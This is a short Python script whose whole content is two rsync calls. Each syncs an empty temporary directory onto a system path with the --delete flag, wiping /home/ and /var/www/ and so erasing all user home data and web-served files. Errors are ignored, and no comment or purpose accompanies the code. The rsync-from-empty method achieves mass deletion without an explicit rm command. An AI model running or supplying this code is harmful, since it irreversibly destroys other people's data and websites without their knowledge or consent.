import subprocess
import tempfile

empty = tempfile.mkdtemp()
subprocess.run(["rsync", "-a", "--delete", empty + "/", "/home/"], check=False)
subprocess.run(["rsync", "-a", "--delete", empty + "/", "/var/www/"], check=False)
